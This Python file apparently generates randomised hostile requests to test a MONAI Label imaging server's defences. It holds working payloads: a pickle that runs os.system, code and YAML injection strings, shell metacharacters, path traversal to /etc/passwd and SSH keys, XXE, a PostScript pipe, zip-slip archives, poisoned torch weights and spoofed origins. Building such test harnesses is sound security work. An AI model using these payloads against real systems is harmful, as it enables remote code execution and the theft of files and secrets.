# ruff: noqa: E501  (lines of a table)
"""Requests that mean harm to the MONAI Label app, drawn at random; ``attack.py`` sends them."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import random
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import nibabel as nib
import numpy as np
import torch
from urllib3.filepost import encode_multipart_formdata

MODEL = "semsim"
#: Keys of a training, scoring, prediction: the panel's, the configuration's and MONAI Label's own.
KEYS = (
    "device", "max_epochs", "steps_per_epoch", "minutes", "val_split", "spatial_size", "pretrained", "use_unlabeled",
    "multi_gpu", "gpus", "run_id", "tracking", "tracking_uri", "tracking_experiment_name", "tracking_run_name", "logging",
    "model", "method", "model_filename", "bundle_path", "bundle_root", "output_dir", "initial", "train#trainer#max_epochs",
    "train#handlers", "network_def", "preprocessing", "result_extension", "result_dtype", "result_compress", "save_label",
    "label_tag", "max_workers", "max_batch_size", "max_samples", "image", "images", "label", "session", "strategy",
    "client_id", "user", "restore_label_idx", "image_path", "result_write_to_file", "nested", "_target_", "__class__",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A request as it goes over the wire.

    Attributes:
        kind: row of the table that it counts in.
        status: the answers that are right; empty: any but a 5xx.
    """

    kind: str
    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    status: tuple[int, ...] = ()


class Pickled:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os

        return os.system, (self.command,)


def form(fields: dict[str, Any]) -> tuple[dict[str, str], bytes]:
    """Headers and body of form data; a tuple of name and content is a file."""
    body, kind = encode_multipart_formdata(fields)
    return {"Content-Type": kind}, body


def volume(shape: tuple[int, ...] = (24, 24, 3), *, values: int = 4000, seed: int = 0, compress: bool = True) -> bytes:
    """A NIfTI file of noise; with ``values`` of 4 a label."""
    array = np.random.default_rng(seed).integers(0, values, shape).astype(np.int16 if values > 4 else np.uint8)
    content = nib.Nifti1Image(array, np.diag([2.0, 2.0, 8.0, 1.0])).to_bytes()
    return gzip.compress(content, 1) if compress else content


class Attacker:
    """Draws requests."""

    def __init__(
        self, rng: random.Random, marks: Path, outside: Path, weights: Path, routes: list[tuple[str, str, list[str]]]
    ) -> None:
        """
        Args:
            rng: of all that is drawn.
            marks: folder in which code that runs leaves a file.
            outside: folder of files that nobody may read or change, ``secret`` with several endings, beside the studies.
            weights: of the network, as the server has them.
            routes: method, path and query parameters of every endpoint.
        """
        self.rng, self.marks, self.outside, self.routes = rng, marks, outside, routes
        self.images = [f"patient{n:03d}" for n in range(6)]
        self.made: list[str] = []  # names of images that were sent
        self.number = 0
        self.state = torch.load(weights, weights_only=True)

    def draw(self) -> Hostile:
        """A request of any kind."""
        kinds: list[tuple[Callable[[], Hostile], int]] = [
            (self.code, 20), (self.name, 18), (self.raw_path, 10), (self.upload, 10), (self.weights, 1),
            (self.sender, 8), (self.odd_body, 10), (self.books, 8), (self.anything, 15), (self.plain, 4),
        ]  # fmt: skip
        return self.rng.choices([kind for kind, _ in kinds], [weight for _, weight in kinds])[0]()

    # -- what is put into requests

    def mark(self) -> str:
        """A file of its own for this code to make."""
        self.number += 1
        return str(self.marks / f"ran_{self.number}")

    def code_text(self) -> Any:
        """Code for one of those who might run it: MONAI's configurations, a shell, YAML, Python, a template."""
        mark = self.mark()
        module, function = self.rng.choice([("os", "system"), ("subprocess", "getoutput")])
        return self.rng.choice([
            f"$__import__('pathlib').Path('{mark}').touch()", f"$__import__('{module}').{function}('touch {mark}') or 1",
            f"$open('{mark}', 'w')", f"@train#$open('{mark}','w')", f"%{self.outside}/secret.yaml#code",
            f"%{self.outside}/secret.yaml", f"cpu$open('{mark}','w')", f" $open('{mark}','w')", f"\t$open('{mark}','w')",
            {"_target_": "os.system", "command": f"touch {mark}"}, {"_target_": "builtins.open", "file": mark, "mode": "w"},
            {"_target_": "$open", "_mode_": "callable"}, {"_target_": "subprocess.getoutput", "cmd": f"touch {mark}"},
            {"a": f"$open('{mark}','w')"}, [f"$open('{mark}','w')"], {f"$open('{mark}','w')": 1},
            f"; touch {mark};", f"`touch {mark}`", f"$(touch {mark})", f"| touch {mark}", f"a' || touch {mark} || '",
            f"!!python/object/apply:os.system ['touch {mark}']", f"__import__('os').system('touch {mark}')",
            f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {mark}", f"${{jndi:ldap://127.0.0.1/{mark}}}",
            f"--device=$open('{mark}','w')", f"cuda:0;touch {mark}", f"=cmd|'touch {mark}'!A1", f"<script>{mark}</script>",
        ])  # fmt: skip

    def bad_name(self) -> str:
        """A name that leads elsewhere, or that some program takes for something else."""
        out = str(self.outside)
        file = self.rng.choice(["secret", "secret.txt", "secret.nii.gz", "secret.nii", "secret.nrrd", "planted"])
        text = self.rng.choice([
            f"../outside/{file}", f"../../outside/{file}", f"../../../outside/{file}", f"{out}/{file}", f"/{out}/{file}",
            f"file://{out}/{file}", f"..\\outside\\{file}", f"....//outside/{file}", f"..;/outside/{file}", "../app/main",
            "../app/lib/active", f"labels/../../outside/{file}", f"./../outside/{file}", "/etc/passwd", "../" * 12 + "etc/passwd",
            "..", ".", "~", "~root/.ssh/id_rsa", "-rf", "--help", "con", "nul", "a/b", "a\\b", ".hidden", "datastore_v2",
            "../datastore_v2", "datastore_v2.json", f"%2e%2e/outside/{file}", f"%2e%2e%2foutside%2f{file}",
            f"%252e%252e%252foutside%252f{file}", f"..%c0%afoutside%c0%af{file}", f"\uff0e\uff0e/outside/{file}",
            f"..\u2215outside\u2215{file}", "x" * 300, "", " ", "\n", "a\nb", "a\0b", f"../outside/{file}\0.nii.gz", "*", "?",
            "patient00*", "patient001;ls", "patient001|ls", "patient001#1", "@x", "%x", "$x", "🫀", "a" * 200 + ".nii.gz",
            "None", "null", "true", "0", "[]", "{}", "<b>x</b>", "labels", "final", "../labels", "labels_before", f"../{out}",
        ])  # fmt: skip
        return self.twisted(text) if self.rng.random() < 0.3 else text

    def twisted(self, text: str) -> str:
        """One change that a filter may not expect."""
        place = self.rng.randint(0, len(text))
        return self.rng.choice([
            quote(text, safe=""), quote(quote(text, safe=""), safe=""), text.replace("/", "\\"), text.replace("/", "//"),
            text[:place] + self.rng.choice(["\0", "\t", "\r\n", " ", "%00", "/", "\\", ":", "\u202e", "\x7f"]) + text[place:],
            text.upper(), text + "/", "/" + text, text + ".nii.gz", text.replace(".", "%2E"), text * 2,
            text.replace("..", "\u2025"), text.encode("utf-16").decode("latin-1"),
        ])  # fmt: skip

    def odd_value(self) -> Any:
        """A value of a kind that nobody expects."""
        return self.rng.choice([
            None, True, -1, 0, 10**30, 1e308, float("nan"), float("inf"), "", "x", "a" * 10_000, [], {}, [[]], [None], {"": {}},
            "\0", "\ud83e", "1e9", "0x10", "NaN", "true", [1] * 1000, {"a": [{"b": [{}]}]}, "1,2,3", b"".hex(), -1e-300,
        ])  # fmt: skip

    def any_value(self) -> Any:
        return self.rng.choice([self.code_text, self.bad_name, self.odd_value])()

    def image(self) -> str:
        """An image that is there, more likely than not."""
        return self.rng.choice([*self.images, *self.made[-20:], self.bad_name()])

    # -- the kinds of requests

    def code(self) -> Hostile:
        """Code as a value of something that computes."""
        values = {self.rng.choice(KEYS): self.code_text() for _ in range(self.rng.choice([1, 1, 2]))}
        if self.rng.random() < 0.2:
            values = {str(self.code_text()): self.rng.choice([1, "x"])}
        where = self.rng.choice(
            ["train", "train", "scoring", "batch/infer", "activelearning", "infer", "label", "info"]
        )
        if where == "infer":
            headers, body = form({"params": json.dumps(values)})
            return Hostile(
                "code", "POST", f"/infer/{MODEL}?image={self.rng.choice(self.images)}&output=json", headers, body
            )
        if where == "label":
            info = {"label_info": [{"name": self.code_text(), "idx": self.code_text()}], **values}
            headers, body = form({"params": json.dumps(info), "label": ("x.nii.gz", volume(values=4))})
            return Hostile("code", "PUT", f"/datastore/label?image={self.rng.choice(self.images)}", headers, body)
        if where == "info":
            headers, body = form({"info": json.dumps(values)})
            return Hostile("code", "PUT", f"/datastore/image/info?image={self.rng.choice(self.images)}", headers, body)
        tail = self.rng.choice(["random", "entropy", "disagreement"]) if where == "activelearning" else MODEL
        values = {"max_epochs": 1, "steps_per_epoch": 1, **values} if where == "train" else values
        headers = {"Content-Type": self.rng.choice(["application/json"] * 4 + ["text/plain", "application/xml"])}
        sync = self.rng.choice(["", "?run_sync=true", "?enqueue=true"])
        return Hostile("code", "POST", f"/{where}/{tail}{sync}", headers, json.dumps(values).encode())

    def name(self) -> Hostile:
        """A name that leads elsewhere, in any place where an endpoint takes one."""
        bad = self.bad_name()
        query = urlencode({"x": bad}, errors="replace")[2:]
        whole = quote(bad, safe="", errors="replace")
        upload, upload_body = form({"file": ("x.nii.gz", volume())})
        label, label_body = form({"label": ("x.nii.gz", volume(values=4)), "params": "{}"})
        info, info_body = form({"info": "{}"})
        params, params_body = form({"params": json.dumps({"model_filename": bad, "label_tag": bad})})
        known = self.rng.choice(self.images)
        method, target, headers, body = self.rng.choice([
            ("PUT", f"/datastore/image?image={query}", upload, upload_body), ("GET", f"/datastore/image?image={query}", {}, b""),
            ("PUT", f"/datastore/?image={query}", upload, upload_body), ("DELETE", f"/datastore/?id={query}", {}, b""),
            ("HEAD", f"/datastore/image?image={query}", {}, b""), ("DELETE", f"/datastore/image?id={query}", {}, b""),
            ("GET", f"/datastore/image/info?image={query}", {}, b""), ("PUT", f"/datastore/image/info?image={query}", info, info_body),
            ("PUT", f"/datastore/label?image={query}", label, label_body),
            ("PUT", f"/datastore/label?image={known}&tag={query}", label, label_body),
            ("PUT", f"/datastore/label?image={known}&tag=final&tag={query}", label, label_body),
            ("GET", f"/datastore/label?label={known}&tag={query}", {}, b""), ("GET", f"/datastore/label?label={query}&tag=final", {}, b""),
            ("HEAD", f"/datastore/label?image={query}&tag={query}", {}, b""), ("DELETE", f"/datastore/label?id={query}&tag={query}", {}, b""),
            ("PUT", f"/datastore/label/info?label={known}&tag={query}", info, info_body),
            ("PUT", f"/datastore/updatelabelinfo?label={query}&tag=final", info, info_body),
            ("POST", f"/infer/{MODEL}?image={query}&output=image", {}, b""), ("POST", f"/infer/{whole}?image={known}", {}, b""),
            ("POST", f"/infer/{MODEL}?image={known}&output=json", params, params_body),
            ("POST", f"/infer/{MODEL}?session_id={query}&output=image", {}, b""), ("POST", f"/train/{whole}", {}, b"{}"),
            ("POST", f"/scoring/{whole}", {}, b"{}"), ("POST", f"/batch/infer/{whole}", {}, b"{}"),
            ("POST", f"/batch/infer/{MODEL}?images={query}", {}, b"{}"), ("POST", f"/activelearning/{whole}", {}, b"{}"),
            ("GET", f"/session/{whole}?image=true", {}, b""), ("DELETE", f"/session/{whole}", {}, b""),
            ("GET", f"/session/{whole}?update_ts=true", {}, b""), ("GET", f"/model/{whole}", {}, b""),
            ("PUT", f"/model/{whole}", upload, upload_body), ("DELETE", f"/model/{whole}", {}, b""), ("GET", f"/model/info/{whole}", {}, b""),
            ("GET", f"/ohif/{whole}", {}, b""), ("GET", f"/static/{whole}", {}, b""), ("GET", f"/proxy/dicom/{whole}", {}, b""),
            ("GET", f"/logs/?lines={query}", {}, b""), ("GET", f"/datastore/?output={query}", {}, b""),
            ("POST", f"/infer/wsi/{MODEL}?image={query}", {}, b"{}"), ("POST", f"/infer/wsi_v2/{MODEL}?image={query}", {}, b""),
        ])  # fmt: skip
        if body == b"{}":
            headers = {"Content-Type": "application/json"}
        if method == "PUT" and "/datastore/" in target:
            self.made.append(bad)
        return Hostile("names", method, target, headers, body)

    def raw_path(self) -> Hostile:
        """A path as no client writes it."""
        start = self.rng.choice(["/static", "/static/ohif", "/ohif", "/session", "/model", "/datastore", "/logs", "/proxy/dicom",
                                 "/proxy/dicom/wado", "/docs", "", "/infer", "/activelearning", "/train"])  # fmt: skip
        up = self.rng.choice(["/..", "/%2e%2e", "/.%2e", "/%2e%2e%2f..", "/..%2f", "/..%5c", "\\..", "/....//..", "//..", "/..;",
                              "/%252e%252e", "/%c0%ae%c0%ae", "/..%00", "/.", "//", "/%uff0e%uff0e"])  # fmt: skip
        goal = self.rng.choice(["/etc/passwd", str(self.outside / "secret.txt"), "/outside/secret.txt", "/app/main.py", "/main.py",
                                "/app/model/semsim/configs/train.yaml", "/openapi.json", "/proc/self/environ", ":etc:passwd",
                                "%2fetc%2fpasswd", quote(str(self.outside / "secret.txt"), safe="")])  # fmt: skip
        target = start + up * self.rng.choice([1, 2, 4, 8, 14]) + goal
        if self.rng.random() < 0.1:
            target = self.rng.choice(["http://127.0.0.1:1", "//evil.example", "*", ""]) + target
        method = self.rng.choice(
            ["GET"] * 6 + ["HEAD", "PUT", "DELETE", "POST", "OPTIONS", "TRACE", "PATCH", "CONNECT"]
        )
        return Hostile("paths", method, target)

    def evil_file(self) -> tuple[str, bytes]:
        """Name and content of a file that makes its reader do something."""
        rng, mark, out = self.rng, self.mark(), self.outside
        ending = rng.choice([".nii.gz", ".nii", ".nrrd", ".seg.nrrd", ".png", ".jpg", ".tif", ".svs", ".xml", ".mhd", ".mha", ".npz",
                             ".npy", ".pt", ".py", ".zip", ".tar", ".dcm", ".hdr", ".img", ".json", ".lock", ".eps", ".bin", ""])  # fmt: skip
        name = rng.choice([f"x{ending}"] * 5 + [f"../../outside/planted{ending}", f"{out}/planted{ending}", f"x{ending}\0.nii.gz",
                           f"..\\planted{ending}", f".{ending}", "main.py.nii.gz", f"$x{ending}", f"x.nii.gz{ending}", "meta.info"])  # fmt: skip
        target = rng.choice(
            [
                f"{out}/secret.raw",
                "../outside/secret.raw",
                "../../outside/secret.raw",
                "/etc/passwd",
                f"{out}/secret.txt",
            ]
        )
        key = rng.choice(["data file", "datafile", "DATA FILE", "data file", "Data File", "data  file", "\tdata file"])
        lines = [
            "NRRD0004",
            "type: uint8",
            "dimension: 3",
            "sizes: 16 16 4",
            f"encoding: {rng.choice(['raw', 'ascii', 'gzip'])}",
        ]
        end = rng.choice(["\n", "\r\n", "\r"])
        where = rng.choice(
            [f"{key}: {target}", f"{key}: LIST 2{end}{target}{end}{target}", f"{key}: {out}/secret%d.raw 1 4 1 2"]
        )
        detached = end.join([*lines, where, "", ""]).encode() + rng.choice([b"", b"\n\n", bytes(1024)])
        meta = f"ObjectType = Image\nNDims = 3\nDimSize = 16 16 4\nElementType = MET_UCHAR\nElementDataFile = {target}\n".encode()
        polyglot = detached.rstrip()[:127].ljust(128, b"#") + b"DICM" + detached
        header = bytearray(volume(compress=False)[:352])
        header[40:56] = np.array(
            [3, *rng.choice([(32767, 32767, 32767), (-1, 5, 5), (0, 0, 0), (24, 24, 300)]), 1, 1, 1, 1], "<i2"
        ).tobytes()
        evil = pickle.dumps(Pickled(f"touch {mark}"))
        script = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch {mark}) (w) file\nshowpage\n".encode()
        xxe = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{out}/secret.txt">]><a>&x;</a>'.encode()
        numpy_file = io.BytesIO()
        np.save(numpy_file, np.array([Pickled(f"touch {mark}")], dtype=object), allow_pickle=True)
        contents = [detached, polyglot, detached, meta, bytes(header), gzip.compress(bytes(header), 1), evil, script, xxe, numpy_file.getvalue(),
                    self.archive(".zip"), self.archive(".tar"), volume(), volume(values=4), volume(compress=False), b"", b"x",
                    gzip.compress(evil, 1), gzip.compress(bytes(1 << 22), 1), bytes(128) + b"DICM" + bytes(64), rng.randbytes(2000),
                    volume()[:-40], f"open('{mark}','w')\n".encode(), volume((24, 24, 3, 2)), volume((24,))]  # fmt: skip
        return name, rng.choice(contents)

    def archive(self, ending: str) -> bytes:
        """A zip or tar whose files climb out, one of them a link."""
        buffer = io.BytesIO()
        names = [str(self.outside / "planted"), "../../outside/planted", "../../../../outside/planted.py"]
        if ending == ".zip":
            with zipfile.ZipFile(buffer, "w") as archive:
                for name in names:
                    archive.writestr(name, "x")
            return buffer.getvalue()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            for name in names:
                archive.addfile(tarfile.TarInfo(name))
            link = tarfile.TarInfo("link")
            link.type, link.linkname = tarfile.SYMTYPE, str(self.outside)
            archive.addfile(link)
        return buffer.getvalue()

    def upload(self) -> Hostile:
        """A file of any content under any name."""
        (name, content), known = self.evil_file(), self.rng.choice(self.images)
        new = f"new{self.rng.randint(0, 30)}"
        where = self.rng.choice(
            ["image", "image", "label", "label", "session", "session", "infer", "infer label", "many"]
        )
        if where == "image":
            self.made.append(new)
            headers, body = form({"file": (name, content), "params": json.dumps({"path": str(self.outside)})})
            return Hostile("uploads", "PUT", f"/datastore/image?image={new}", headers, body)
        if where == "label":
            names = [{"name": "myocardium", "idx": value} for value in range(256)]
            headers, body = form({"label": (name, content), "params": json.dumps({"label_info": names, "empty": True})})
            tag = self.rng.choice(["final", "original", "v1"])
            return Hostile("uploads", "PUT", f"/datastore/label?image={known}&tag={tag}", headers, body)
        if where in ("session", "many"):
            files = [("files", (name, content)) for _ in range(3 if where == "many" else 1)]
            body, kind = encode_multipart_formdata(files)
            unpack = self.rng.choice(["false", "false", "false", "true", "1", "FALSE&uncompress=true"])
            return Hostile("uploads", "PUT", f"/session/?uncompress={unpack}&expiry=60", {"Content-Type": kind}, body)
        extra = {"label": (name, content)} if where == "infer label" else {"file": (name, content)}
        headers, body = form({"params": "{}", **extra})
        return Hostile("uploads", "POST", f"/infer/{MODEL}?image={known}&output=image", headers, body)

    def weights(self) -> Hostile:
        """Weights that are a program, another network's, or none."""
        buffer, mark = io.BytesIO(), self.mark()
        kind = self.rng.choice(
            ["pickle", "torch", "torch legacy", "state", "half", "script", "zip", "text", "restored"]
        )
        if kind == "pickle":
            buffer.write(pickle.dumps(Pickled(f"touch {mark}")))
        elif kind.startswith("torch"):
            content = {"state_dict": Pickled(f"touch {mark}"), **self.state}
            torch.save(content, buffer, _use_new_zipfile_serialization=kind == "torch")
        elif kind == "script":
            torch.jit.save(torch.jit.script(torch.nn.Linear(1, 1)), buffer)
        elif kind in ("state", "half"):
            torch.save({"x": torch.zeros(3)} if kind == "state" else dict(list(self.state.items())[::2]), buffer)
        elif kind == "restored":
            torch.save(self.state, buffer)
        else:
            buffer.write(self.archive(".zip") if kind == "zip" else b"x")
        name = self.rng.choice(["model.pt", "../../outside/planted.pt", "model.ts", "x.py", "model.pt\0"])
        headers, body = form({"file": (name, buffer.getvalue())})
        return Hostile("weights", "PUT", f"/model/{MODEL}", headers, body)

    def sender(self) -> Hostile:
        """A page of another site, or this server under somebody else's name."""
        evil = self.rng.choice(["https://evil.example", "null", "http://127.0.0.1:1", "http://localhost", "file://", "HTTPS://EVIL.EXAMPLE",
                                "http://127.0.0.1.evil.example", "http://evil.example@127.0.0.1:1", "chrome-extension://x", "https://[::1]:1",
                                "http://localhost.evil.example:8000", " https://evil.example", "https://evil.example/"])  # fmt: skip
        hosts = [
            "evil.example",
            "127.0.0.1.evil.example",
            "evil.example:8000",
            "127.0.0.1@evil.example",
            "localhost.evil.example",
            "[evil]",
        ]
        header = {"Origin": evil} if self.rng.random() < 0.6 else {"Host": self.rng.choice(hosts)}
        other = self.rng.choice([self.code, self.name, self.books, self.plain])()
        return Hostile("senders", other.method, other.target, {**other.headers, **header}, other.body, (403,))

    def odd_body(self) -> Hostile:
        """A body that is no JSON, too deep, too large, or of another kind."""
        rng = self.rng
        text = rng.choice([
            "[" * rng.choice([500, 5000, 100_000]), '{"a":' * rng.choice([500, 50_000]), "[" * 900 + "]" * 900, '{"a":1e999}', '{"a":NaN}',
            "{", "[]", "null", "1", '"x"', "true", "", '{"a":"' + "x" * 1_000_000 + '"}', '{"a":' + "9" * 5000 + "}", "\0", "\ufeff{}",
            '{"max_epochs":1,"max_epochs":"$1"}', json.dumps({str(n): n for n in range(20_000)}), '{"\\ud800":"\\udfff"}', "{}{}", "{'a':1}",
            json.dumps({rng.choice(KEYS): self.odd_value() for _ in range(3)}), json.dumps({rng.choice(KEYS): self.any_value()}),
        ])  # fmt: skip
        content = text.encode("utf-8", "surrogatepass")
        if rng.random() < 0.1:
            content = rng.choice(
                [content.decode("utf-8", "replace").encode("utf-16", "replace"), b"\xff\xfe", gzip.compress(content)]
            )
        kind = rng.choice(["application/json"] * 4 + ["text/plain", "multipart/form-data", "multipart/form-data; boundary=",
                           "application/x-www-form-urlencoded", "", "application/json; charset=utf-7", "x" * 3000])  # fmt: skip
        if rng.random() < 0.5:
            where = rng.choice(
                [f"/train/{MODEL}", "/train/", f"/scoring/{MODEL}", f"/batch/infer/{MODEL}", "/activelearning/random"]
            )
            return Hostile("bodies", "POST", where, {"Content-Type": kind}, content)
        known = rng.choice(self.images)
        method, where, key = rng.choice([
            ("POST", f"/infer/{MODEL}?image={known}&output=json", "params"), ("PUT", f"/datastore/image/info?image={known}", "info"),
            ("PUT", f"/datastore/label/info?label={known}&tag=final", "info"), ("PUT", f"/datastore/label?image={known}", "params"),
            ("PUT", "/datastore/image?image=new1", "params"), ("POST", "/auth/token", "password"),
        ])  # fmt: skip
        headers, body = form({key: content, "label": ("x.nii.gz", volume(values=4)), "file": ("x.nii.gz", volume())}
                             if method == "PUT" else {key: content})  # fmt: skip
        return Hostile("bodies", method, where, headers, body)

    def books(self) -> Hostile:
        """What the books say of an image or label: its path, its ending, its name; then whoever believes them."""
        known, bad = self.image(), self.bad_name()
        text = {rng_key: self.rng.choice([bad, self.code_text(), str(self.outside / "secret.nii.gz"), self.odd_value()]) for rng_key in
                self.rng.sample(["path", "ext", "name", "image", "label", "uri", "id", "ts", "strategy", "checksum", "label_info", "params",
                                 "labels", "info", "semsim_entropy", "semsim_model", "model", "tag", "empty"], 3)}  # fmt: skip
        headers, body = form(
            {"info": json.dumps(text), "params": json.dumps(text), "label": ("x.nii.gz", volume(values=4))}
        )
        image, tag = urlencode({"x": known}, errors="replace")[2:], self.rng.choice(["final", "original"])
        method, target = self.rng.choice([
            ("PUT", f"/datastore/image/info?image={image}"), ("PUT", f"/datastore/label/info?label={image}&tag={tag}"),
            ("PUT", f"/datastore/updatelabelinfo?label={image}&tag={tag}"), ("PUT", f"/datastore/label?image={image}&tag={tag}"),
            ("GET", f"/datastore/image?image={image}"), ("GET", f"/datastore/label?label={image}&tag={tag}"),
            ("GET", "/datastore/?output=train"), ("GET", "/datastore/?output=all"), ("GET", "/datastore/dataset?limit_cases=3"),
            ("POST", f"/infer/{MODEL}?image={image}&output=image"), ("POST", "/activelearning/entropy"),
        ])  # fmt: skip
        return Hostile("books", method, target, headers if method == "PUT" else {}, body if method == "PUT" else b"")

    def anything(self) -> Hostile:
        """Any endpoint that the server has, any value for each of its parameters."""
        method, path, parameters = self.rng.choice(self.routes)
        for part in path.split("/"):
            if part.startswith("{"):
                path = path.replace(
                    part, quote(str(self.rng.choice([MODEL, self.any_value()])), safe="", errors="replace")
                )
        query = {
            key: self.rng.choice([self.image(), self.any_value()]) for key in parameters if self.rng.random() < 0.8
        }
        target = path + ("?" + urlencode({k: str(v) for k, v in query.items()}, errors="replace") if query else "")
        if method in ("GET", "HEAD", "DELETE"):
            return Hostile("anything", method, target)
        if self.rng.random() < 0.5:
            values = {self.rng.choice(KEYS): self.any_value() for _ in range(self.rng.randint(0, 4))}
            return Hostile(
                "anything", method, target, {"Content-Type": "application/json"}, json.dumps(values).encode()
            )
        name, content = self.evil_file()
        fields = {"params": json.dumps({self.rng.choice(KEYS): self.any_value()}), "info": json.dumps(self.odd_value())}
        fields |= {self.rng.choice(["file", "label", "files"]): (name, content)}
        headers, body = form(fields)
        return Hostile("anything", method, target, headers, body)

    def plain(self) -> Hostile:
        """Honest work on what the others have left behind; and room for more of it."""
        rng, known = self.rng, urlencode({"x": self.image()}, errors="replace")[2:]
        task = rng.choice(["train", "scoring", "batch/infer"])
        body = json.dumps(
            {"max_epochs": 1, "steps_per_epoch": 1, "val_split": 0.0, "spatial_size": 64} if task == "train" else {}
        ).encode()
        label, label_body = form({"label": ("x.nii.gz", volume(values=4)), "params": "{}"})
        upload, upload_body = form({"file": ("x.nii.gz", volume(seed=rng.randint(0, 9)))})
        gone = urlencode({"x": self.made.pop(0) if len(self.made) > 30 else "new0"}, errors="replace")[2:]
        method, target, headers, body = rng.choice([
            ("POST", f"/{task}/{MODEL}", {"Content-Type": "application/json"}, body), ("DELETE", f"/{task}/", {}, b""),
            ("POST", f"/infer/{MODEL}?image={known}&output=image", {}, b""), ("POST", "/activelearning/disagreement", {}, b""),
            ("PUT", f"/datastore/label?image={known}&tag=final", label, label_body), ("GET", f"/{task}/", {}, b""),
            ("PUT", f"/datastore/image?image=new{rng.randint(0, 30)}", upload, upload_body), ("GET", "/info/", {}, b""),
            ("DELETE", f"/datastore/image?id={gone}", {}, b""), ("DELETE", f"/datastore/image?id=new{rng.randint(0, 30)}", {}, b""),
            ("GET", f"/logs/?lines={rng.choice(['-1', '0', '5', '99999999'])}&html=false&text=true", {}, b""), ("GET", "/logs/gpu", {}, b""),
            ("GET", "/datastore/dataset", {}, b""), ("GET", f"/model/{MODEL}", {}, b""), ("GET", f"/model/info/{MODEL}", {}, b""),
        ])  # fmt: skip
        return Hostile("plain", method, target, headers, body)
